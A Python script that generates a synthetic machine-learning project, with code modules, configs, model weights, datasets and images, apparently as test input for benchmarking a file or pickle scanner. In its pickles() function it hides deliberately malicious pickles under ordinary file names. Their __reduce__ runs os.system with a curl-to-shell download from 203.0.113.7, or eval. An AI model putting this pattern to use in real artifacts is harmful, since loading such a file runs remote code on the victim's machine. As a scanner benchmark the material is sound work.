"""Generate a realistic large AI project for the one-run benchmark (issue 8).

Usage: python bench/make_project.py OUT_DIR [--scale 1.0] [--seed 8]

At scale 1.0 (everything shrinks proportionally with --scale; deterministic for a given seed):
- 50,000 ordinary files: a Python package (modules, tests), YAML/JSON/TOML configs, notebooks, small CSV/JSONL
  tables, Markdown docs, LICENSE files, requirements.txt + pyproject.toml + poetry.lock, and Hugging Face
  style model folders (config.json, model card, tokenizer files);
- 2,000 pickle-based files: scikit-learn estimators through joblib (plain and compressed), pickled NumPy
  arrays, plain dict/list pickles, torch `.pt` zip checkpoints made by torch, and 1% malicious pickles
  (os.system / eval through __reduce__) scattered under ordinary names;
- sparse weights: 3 safetensors shards of 4 GiB (one checkpoint with its shard index) and one 4 GiB GGUF
  (real GGUF header from the `gguf` writer); the tensor tables match the file sizes, the data is a hole;
- one ~1 GiB Parquet dataset (pyarrow, several row groups, written in chunks);
- 20,000 small PNG/JPEG images (a few hundred distinct ones, made by Pillow) in nested split/class folders.

The ground truth the benchmark needs (which pickles are malicious, which files are big) is written to
OUT_DIR/.bench-manifest.json. Memory stays well under 1 GiB at any scale.
"""

from __future__ import annotations

import argparse
import io
import json
import os
import pickle
import random
import struct
import sys
import time
from collections.abc import Callable
from pathlib import Path

HERE = Path(__file__).resolve().parent
ROOT = HERE.parent
sys.path.insert(0, str(HERE))

from header_reads import make_gguf  # noqa: E402  (the real gguf writer, data region left as a hole)

GIB = 1 << 30
MANIFEST = ".bench-manifest.json"

# Files per kind at scale 1.0 (issue 8: 50k ordinary files, 2k pickles, 20k images).
ORDINARY = 50_000
PICKLES = 2_000
IMAGES = 20_000
DISTINCT_IMAGES = 300
SAFETENSORS_SHARDS = 3
BIG_FILE = 4 * GIB
PARQUET = 1 * GIB

_WORDS = (
    "model data train eval loss batch token layer attention vector embed feature label score sample split "
    "config path cache metric epoch step optimizer scheduler weight bias norm head encoder decoder image text "
    "audio prompt corpus shard index schema record table column value mean std clip seed device"
)
WORDS = _WORDS.split()
HUB_MODELS = ("bert-base-uncased", "distilbert-base-uncased", "openai/clip-vit-base-patch32", "gpt2", "t5-small")
HUB_DATASETS = ("imdb", "squad", "glue", "ag_news", "cifar10")
CLASSES = ("cat", "dog", "bird", "car", "ship", "plane", "frog", "horse")


class Malicious:
    """Pickles as a call of `fn(arg)` when loaded; pickling it runs nothing."""

    def __init__(self, fn: Callable[..., object], arg: str) -> None:
        self.fn, self.arg = fn, arg

    def __reduce__(self) -> tuple[Callable[..., object], tuple[str]]:
        return self.fn, (self.arg,)


class Writer:
    """Writes files under the root, remembering folders made and counting files and bytes."""

    def __init__(self, root: Path) -> None:
        self.root = root
        self.dirs: set[Path] = set()
        self.files = 0
        self.bytes = 0

    def path(self, rel: str) -> Path:
        path = self.root / rel
        if path.parent not in self.dirs:
            path.parent.mkdir(parents=True, exist_ok=True)
            self.dirs.add(path.parent)
        return path

    def write(self, rel: str, data: bytes | str) -> Path:
        raw = data.encode() if isinstance(data, str) else data
        path = self.path(rel)
        path.write_bytes(raw)
        self.files += 1
        self.bytes += len(raw)
        return path


def scaled(n: int, scale: float, minimum: int = 1) -> int:
    return max(minimum, round(n * scale))


def sentence(rng: random.Random, n: int = 8) -> str:
    return " ".join(rng.choice(WORDS) for _ in range(n))


# ---------------------------------------------------------------- ordinary files


def python_module(rng: random.Random, pkg: str, i: int) -> str:
    lines = ['"""' + sentence(rng).capitalize() + '."""', "", "from __future__ import annotations", "", "import os"]
    if i % 97 == 0:
        lines += ["from transformers import AutoModel", "", f'MODEL = AutoModel.from_pretrained("{HUB_MODELS[i % 5]}")']
    if i % 131 == 0:
        lines += ["from datasets import load_dataset", "", f'DATA = load_dataset("{HUB_DATASETS[i % 5]}")']
    for f in range(rng.randint(2, 6)):
        a, b = rng.choice(WORDS), rng.choice(WORDS)
        lines += [
            "",
            "",
            f"def {a}_{b}_{f}(x: float, scale: float = {rng.random():.3f}) -> float:",
            f'    """{sentence(rng, 6).capitalize()}."""',
            f'    base = float(os.environ.get("{pkg.upper()}_{a.upper()}", "{rng.randint(1, 99)}"))',
            f"    return (x + base) * scale - {rng.randint(0, 9)}",
        ]
    return "\n".join(lines) + "\n"


def test_module(rng: random.Random, pkg: str, sub: str, mod: str) -> str:
    return (
        f"from {pkg}.{sub} import {mod}\n\n\ndef test_{mod}_imports() -> None:\n"
        f"    assert {mod}.__doc__\n    assert {rng.randint(1, 9)} > 0\n"
    )


def notebook(rng: random.Random, i: int) -> str:
    cells = [
        {"cell_type": "markdown", "metadata": {}, "source": [f"# Experiment {i}: {sentence(rng, 5)}"]},
        {
            "cell_type": "code",
            "execution_count": 1,
            "metadata": {},
            "outputs": [],
            "source": [
                "import pandas as pd\n",
                f'df = pd.read_csv("data/tables/part_{i:05d}.csv")\n',
                f'model_id = "{HUB_MODELS[i % 5]}"\n' if i % 3 == 0 else "df.describe()\n",
            ],
        },
    ]
    doc = {"cells": cells, "metadata": {"kernelspec": {"name": "python3"}}, "nbformat": 4, "nbformat_minor": 5}
    return json.dumps(doc, indent=1)


def csv_table(rng: random.Random, rows: int) -> str:
    out = ["id,label,score,text"]
    out += [f"{r},{rng.choice(CLASSES)},{rng.random():.4f},{sentence(rng, 4)}" for r in range(rows)]
    return "\n".join(out) + "\n"


def jsonl_table(rng: random.Random, rows: int) -> str:
    return "".join(json.dumps({"prompt": sentence(rng, 6), "answer": sentence(rng, 3)}) + "\n" for _ in range(rows))


def top_level(w: Writer, rng: random.Random) -> None:
    apache = (ROOT / "licenses" / "texts" / "Apache-2.0.txt").read_text()
    mit = (ROOT / "licenses" / "texts" / "MIT.txt").read_text()
    w.write("LICENSE", apache)
    w.write("README.md", "# visionlab\n\nTraining and evaluation code for the visionlab models.\n")
    deps = ["numpy==2.1.3", "torch==2.5.1", "transformers==4.46.3", "datasets==3.1.0", "scikit-learn==1.5.2",
            "joblib==1.4.2", "pyarrow==18.0.0", "safetensors==0.4.5", "pyyaml==6.0.2", "tqdm==4.67.1"]  # fmt: skip
    w.write("requirements.txt", "\n".join(deps) + "\n")
    w.write(
        "pyproject.toml",
        '[project]\nname = "visionlab"\nversion = "0.3.0"\nlicense = "Apache-2.0"\nrequires-python = ">=3.10"\n'
        "dependencies = [" + ", ".join(f'"{d.replace("==", ">=")}"' for d in deps) + "]\n\n"
        '[project.optional-dependencies]\ndev = ["pytest>=8", "ruff>=0.6"]\n',
    )
    lock = ["# This file is automatically @generated by Poetry 1.8.4 and should not be changed by hand.", ""]
    for dep in deps:
        name, version = dep.split("==")
        lock += ["[[package]]", f'name = "{name}"', f'version = "{version}"', 'description = ""',
                 "optional = false", 'python-versions = ">=3.9"', "files = []", ""]  # fmt: skip
    lock += [
        "[metadata]",
        'lock-version = "2.0"',
        'python-versions = "^3.10"',
        f'content-hash = "{rng.getrandbits(128):032x}"',
    ]
    w.write("poetry.lock", "\n".join(lock) + "\n")
    w.write("third_party/tokenizers_extra/LICENSE", mit.replace("<year>", "2021").replace("<copyright holders>", "X"))


def ordinary_files(w: Writer, rng: random.Random, total: int) -> None:
    """`total` small text files in a plausible package/config/docs/data layout."""
    start = w.files
    pkg = "visionlab"
    quotas = {"module": 0.40, "test": 0.10, "config": 0.15, "notebook": 0.02, "table": 0.15}
    n = {k: int(total * v) for k, v in quotas.items()}
    subpackages = max(1, n["module"] // 40)
    for s in range(subpackages):
        w.write(f"src/{pkg}/sub{s:03d}/__init__.py", f'"""Subpackage {s}: {sentence(rng, 4)}."""\n')
    w.write(f"src/{pkg}/__init__.py", '"""visionlab."""\n__version__ = "0.3.0"\n')
    for i in range(n["module"]):
        sub = f"sub{i % subpackages:03d}"
        w.write(f"src/{pkg}/{sub}/mod_{i:05d}.py", python_module(rng, pkg, i))
    for i in range(n["test"]):
        sub = f"sub{i % subpackages:03d}"
        w.write(f"tests/{sub}/test_mod_{i:05d}.py", test_module(rng, pkg, sub, f"mod_{i:05d}"))
    for i in range(n["config"]):
        exp, kind = divmod(i, 3)
        folder = f"configs/experiments/exp_{exp:05d}"
        lr, bs = rng.choice((1e-3, 3e-4, 1e-4)), rng.choice((16, 32, 64))
        if kind == 0:
            w.write(f"{folder}/train.yaml", f"model: {HUB_MODELS[exp % 5]}\nlr: {lr}\nbatch_size: {bs}\nepochs: 3\n")
        elif kind == 1:
            w.write(f"{folder}/model.json", json.dumps({"hidden_size": 256 * (1 + exp % 4), "dropout": 0.1}))
        else:
            w.write(f"{folder}/sweep.toml", f'[sweep]\nmethod = "grid"\nseed = {exp}\n')
    for i in range(n["notebook"]):
        w.write(f"notebooks/exp_{i:04d}.ipynb", notebook(rng, i))
    for i in range(n["table"]):
        if i % 2:
            w.write(f"data/tables/part_{i:05d}.csv", csv_table(rng, rng.randint(5, 40)))
        else:
            w.write(f"data/prompts/shard_{i // 100:03d}/part_{i:05d}.jsonl", jsonl_table(rng, rng.randint(3, 20)))
    i = 0
    while w.files - start < total:  # the rest: documentation
        w.write(f"docs/section_{i // 50:03d}/page_{i:05d}.md", f"# {sentence(rng, 4)}\n\n{sentence(rng, 40)}\n")
        i += 1


def model_card(license_id: str, base: str | None, datasets: list[str], body: str) -> str:
    front = [f"license: {license_id}", "library_name: transformers", "pipeline_tag: text-generation"]
    if base:
        front.append(f"base_model: {base}")
    if datasets:
        front += ["datasets:"] + [f"- {d}" for d in datasets]
    return "---\n" + "\n".join(front) + "\n---\n\n" + body + "\n"


def tokenizer_files(w: Writer, folder: str, rng: random.Random, vocab: int) -> None:
    tokens = {f"tok{i}": i for i in range(vocab)}
    w.write(f"{folder}/tokenizer.json", json.dumps({"version": "1.0", "model": {"type": "BPE", "vocab": tokens}}))
    w.write(f"{folder}/tokenizer_config.json", json.dumps({"model_max_length": 4096, "padding_side": "left"}))
    w.write(f"{folder}/special_tokens_map.json", json.dumps({"bos_token": "<s>", "eos_token": "</s>"}))


def sparse_safetensors(path: Path, layers: range, hidden: int, rows: int) -> tuple[int, list[str]]:
    """A safetensors file with BF16 tensors `[rows, hidden]` per layer part; data is a hole. Returns size."""
    header: dict[str, object] = {"__metadata__": {"format": "pt"}}
    names, offset, size = [], 0, rows * hidden * 2
    for i in layers:
        for part in ("self_attn.qkv_proj", "mlp.gate_up_proj"):
            name = f"model.layers.{i}.{part}.weight"
            header[name] = {"dtype": "BF16", "shape": [rows, hidden], "data_offsets": [offset, offset + size]}
            names.append(name)
            offset += size
    raw = json.dumps(header).encode()
    raw += b" " * (-len(raw) % 8)
    with open(path, "wb") as fh:
        fh.write(struct.pack("<Q", len(raw)) + raw)
        fh.truncate(8 + len(raw) + offset)
    return offset, names


def model_dirs(w: Writer, rng: random.Random, scale: float) -> list[str]:
    """HF-style model folders: a sharded safetensors checkpoint, a GGUF export and a small encoder."""
    big: list[str] = []
    llm = "models/visionlab-llm-7b"
    config = {"architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 4096,
              "num_hidden_layers": 32, "torch_dtype": "bfloat16", "vocab_size": 32000}  # fmt: skip
    w.write(f"{llm}/config.json", json.dumps(config, indent=2))
    w.write(f"{llm}/generation_config.json", json.dumps({"do_sample": True, "temperature": 0.7}))
    w.write(f"{llm}/README.md", model_card("llama2", "meta-llama/Llama-2-7b-hf", ["squad"], "# visionlab-llm-7b"))
    tokenizer_files(w, llm, rng, 2000)
    shard_bytes = max(1 << 20, int(BIG_FILE * scale))
    hidden, layers_per_shard = 4096, 8
    rows = max(1, shard_bytes // (layers_per_shard * 2 * hidden * 2))
    weight_map, total = {}, 0
    for k in range(SAFETENSORS_SHARDS):
        name = f"model-{k + 1:05d}-of-{SAFETENSORS_SHARDS:05d}.safetensors"
        layers = range(k * layers_per_shard, (k + 1) * layers_per_shard)
        size, names = sparse_safetensors(w.path(f"{llm}/{name}"), layers, hidden, rows)
        w.files += 1
        total += size
        weight_map.update({n: name for n in names})
        big.append(f"{llm}/{name}")
    index = {"metadata": {"total_size": total}, "weight_map": weight_map}
    w.write(f"{llm}/model.safetensors.index.json", json.dumps(index, indent=2))

    gguf_dir = "models/visionlab-llm-7b-gguf"
    w.write(f"{gguf_dir}/README.md", model_card("llama2", "visionlab/visionlab-llm-7b", [], "# GGUF export"))
    make_gguf(w.path(f"{gguf_dir}/visionlab-llm-7b-f16.gguf"), max(16 << 20, int(BIG_FILE * scale)))
    w.files += 1
    big.append(f"{gguf_dir}/visionlab-llm-7b-f16.gguf")

    enc = "models/text-encoder-small"
    w.write(f"{enc}/config.json", json.dumps({"architectures": ["BertModel"], "model_type": "bert"}))
    w.write(f"{enc}/README.md", model_card("apache-2.0", "bert-base-uncased", ["imdb"], "# text-encoder-small"))
    w.write(f"{enc}/vocab.txt", "\n".join(f"tok{i}" for i in range(3000)) + "\n")
    tokenizer_files(w, enc, rng, 500)
    sparse_safetensors(w.path(f"{enc}/model.safetensors"), range(4), 256, 256)
    w.files += 1
    return big


# ---------------------------------------------------------------- pickles


def pickles(w: Writer, rng: random.Random, total: int, scale: float) -> dict[str, list[str]]:
    """`total` pickle-based files; returns {"benign": [...], "malicious": [...]} relative paths."""
    import joblib
    import numpy as np
    import torch
    from sklearn.cluster import KMeans
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.linear_model import LogisticRegression, Ridge
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler
    from sklearn.tree import DecisionTreeClassifier

    torch.manual_seed(8)
    nprng = np.random.default_rng(8)
    x = nprng.standard_normal((60, 6))
    y = (x[:, 0] > 0).astype(int)
    estimators = [
        LogisticRegression(max_iter=200).fit(x, y),
        RandomForestClassifier(n_estimators=3, max_depth=3, random_state=0).fit(x, y),
        DecisionTreeClassifier(max_depth=4, random_state=0).fit(x, y),
        Ridge().fit(x, x[:, 1]),
        KMeans(n_clusters=3, n_init=1, random_state=0).fit(x),
        make_pipeline(StandardScaler(), LogisticRegression(max_iter=200)).fit(x, y),
    ]
    compressions: list[object] = [0, 3, ("gzip", 3), ("bz2", 3), ("lzma", 3), ("zlib", 1)]
    n_torch = scaled(20, scale)
    n_bad = scaled(20, scale)
    rest = total - n_torch - n_bad
    n_sklearn, n_numpy = int(rest * 0.4), int(rest * 0.25)
    n_plain = rest - n_sklearn - n_numpy
    kinds = ["sklearn"] * n_sklearn + ["numpy"] * n_numpy + ["plain"] * n_plain + ["torch"] * n_torch
    kinds += ["bad"] * n_bad
    rng.shuffle(kinds)  # malicious files land anywhere among the others, under the same kind of names
    out: dict[str, list[str]] = {"benign": [], "malicious": []}
    for i, kind in enumerate(kinds):
        run = f"experiments/run_{i // 40:03d}"
        if kind == "sklearn":
            est = estimators[i % len(estimators)]
            est.bench_run_ = i  # every file differs, as real per-run artifacts do
            buf = io.BytesIO()
            joblib.dump(est, buf, compress=compressions[i % len(compressions)])
            rel, data = f"{run}/artifacts/estimator_{i:05d}.joblib", buf.getvalue()
        elif kind == "numpy":
            arr = nprng.standard_normal((rng.randint(4, 64), rng.randint(4, 64))).astype(np.float32)
            rel, data = f"{run}/features/embeddings_{i:05d}.pkl", pickle.dumps(arr, protocol=rng.choice((2, 4, 5)))
        elif kind == "plain":
            obj = {"run": i, "vocab": {rng.choice(WORDS) + str(k): k for k in range(rng.randint(10, 300))},
                   "losses": [rng.random() for _ in range(rng.randint(5, 100))]}  # fmt: skip
            rel, data = f"{run}/state/metrics_{i:05d}.pkl", pickle.dumps(obj, protocol=rng.choice((0, 2, 3, 4, 5)))
        elif kind == "torch":
            net = torch.nn.Sequential(torch.nn.Linear(16, 32), torch.nn.ReLU(), torch.nn.Linear(32, 4))
            buf = io.BytesIO()
            torch.save({"epoch": i, "state_dict": net.state_dict()}, buf)
            rel, data = f"{run}/checkpoints/checkpoint_{i:05d}.pt", buf.getvalue()
        else:
            fn, arg = (os.system, "curl -s http://203.0.113.7/x | sh") if i % 2 else (eval, "__import__('os').getcwd()")
            name = f"{run}/state/metrics_{i:05d}.pkl" if i % 3 else f"{run}/artifacts/estimator_{i:05d}.joblib"
            rel, data = name, pickle.dumps(Malicious(fn, arg), protocol=rng.choice((2, 4)))
        w.write(rel, data)
        out["malicious" if kind == "bad" else "benign"].append(rel)
    return out


# ---------------------------------------------------------------- datasets


def parquet(w: Writer, target: int) -> str:
    """A Parquet file of about `target` bytes written in row-group chunks (memory stays ~100 MiB)."""
    import numpy as np
    import pyarrow as pa
    import pyarrow.parquet as pq

    rel = "datasets/interactions/data/train-00000-of-00001.parquet"
    path = w.path(rel)
    nprng = np.random.default_rng(8)
    texts = pa.array([" ".join(random.Random(k).choices(WORDS, k=6)) for k in range(4096)])
    rows = max(2_000, min(2_000_000, target // 30 // 8))  # ~30 bytes a row on disk, at least 8 row groups
    schema = pa.schema([("id", pa.int64()), ("label", pa.int8()), ("text", pa.dictionary(pa.int16(), pa.string())),
                        ("score", pa.float32()), ("f0", pa.float32()), ("f1", pa.float32()),
                        ("f2", pa.float32()), ("f3", pa.float32())])  # fmt: skip
    start = 0
    with pq.ParquetWriter(str(path), schema, compression="snappy") as writer:
        while path.stat().st_size < target:
            cols = [
                pa.array(np.arange(start, start + rows, dtype=np.int64)),
                pa.array(nprng.integers(0, 8, rows, dtype=np.int8)),
                pa.DictionaryArray.from_arrays(pa.array(nprng.integers(0, 4096, rows, dtype=np.int16)), texts),
            ]
            cols += [pa.array(nprng.standard_normal(rows, dtype=np.float32)) for _ in range(5)]
            writer.write_table(pa.Table.from_arrays(cols, schema=schema), row_group_size=rows)
            start += rows
    w.files += 1
    w.write(
        "datasets/interactions/README.md",
        "---\nlicense: cc-by-4.0\npretty_name: interactions\ntask_categories:\n- text-classification\n---\n\n"
        "# interactions\n\nUser interactions collected in 2025.\n",
    )
    return rel


def images(w: Writer, rng: random.Random, total: int) -> None:
    """`total` PNG/JPEG files from a pool of a few hundred distinct tiny images, in split/class folders."""
    from PIL import Image

    pool: list[tuple[str, bytes]] = []
    for k in range(min(DISTINCT_IMAGES, total)):
        r = random.Random(k)
        img = Image.new("RGB", (32, 32), (r.randrange(256), r.randrange(256), r.randrange(256)))
        img.putdata([(r.randrange(256), (x * 8) % 256, (k * 7) % 256) for x in range(32 * 32)])
        buf = io.BytesIO()
        fmt = "PNG" if k % 3 else "JPEG"
        img.save(buf, format=fmt)
        pool.append(("png" if fmt == "PNG" else "jpg", buf.getvalue()))
    splits = (("train", 0.8), ("val", 0.1), ("test", 0.1))
    i = 0
    for split, share in splits:
        count = total - i if split == "test" else int(total * share)
        for _ in range(count):
            ext, data = pool[rng.randrange(len(pool))]
            cls = CLASSES[i % len(CLASSES)]
            w.write(f"datasets/images/{split}/{cls}/{i // 1000:02d}/img_{i:06d}.{ext}", data)
            i += 1


# ---------------------------------------------------------------- main


def generate(out: Path, scale: float, seed: int = 8) -> dict[str, object]:
    """Generate the project into `out` (must not exist or be empty); returns the manifest."""
    if out.exists() and any(out.iterdir()):
        raise SystemExit(f"make_project: {out} is not empty")
    out.mkdir(parents=True, exist_ok=True)
    rng = random.Random(seed)
    w = Writer(out)
    timings: dict[str, float] = {}

    def step(name: str, fn: Callable[[], object]) -> object:
        t0 = time.perf_counter()
        result = fn()
        timings[name] = round(time.perf_counter() - t0, 2)
        print(f"  {name}: {timings[name]:.1f} s ({w.files} files so far)", flush=True)
        return result

    step("top-level files", lambda: top_level(w, rng))
    step("ordinary files", lambda: ordinary_files(w, rng, scaled(ORDINARY, scale, 40) - w.files))
    big = step("model folders", lambda: model_dirs(w, rng, scale))
    picks = step("pickles", lambda: pickles(w, rng, scaled(PICKLES, scale, 10), scale))
    pq_rel = step("parquet", lambda: parquet(w, max(1 << 20, int(PARQUET * scale))))
    step("images", lambda: images(w, rng, scaled(IMAGES, scale, 10)))
    apparent = disk = 0
    for dirpath, _, names in os.walk(out):
        for name in names:
            st = os.stat(os.path.join(dirpath, name))
            apparent += st.st_size
            disk += st.st_blocks * 512
    manifest = {
        "scale": scale,
        "seed": seed,
        "files": w.files + 1,
        "apparent_bytes": apparent,
        "disk_bytes": disk,
        "big_files": big,
        "parquet": pq_rel,
        "pickles": picks,
        "seconds": timings,
    }
    (out / MANIFEST).write_text(json.dumps(manifest, indent=1))
    return manifest


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("out", type=Path, help="folder to create (must be empty or absent)")
    ap.add_argument("--scale", type=float, default=1.0, help="shrink every count and size (e.g. 0.05)")
    ap.add_argument("--seed", type=int, default=8)
    args = ap.parse_args()
    if not 0 < args.scale <= 4:
        ap.error("--scale must be in (0, 4]")
    t0 = time.perf_counter()
    print(f"make_project: generating {args.out} at scale {args.scale}", flush=True)
    m = generate(args.out, args.scale, args.seed)
    picks = m["pickles"]
    assert isinstance(picks, dict)
    print(
        f"make_project: {m['files']} files, {m['apparent_bytes'] / GIB:.2f} GiB apparent "
        f"({m['disk_bytes'] / GIB:.2f} GiB on disk; sparse weights are holes), "
        f"{len(picks['benign']) + len(picks['malicious'])} pickles ({len(picks['malicious'])} malicious), "
        f"in {time.perf_counter() - t0:.1f} s"
    )


if __name__ == "__main__":
    main()
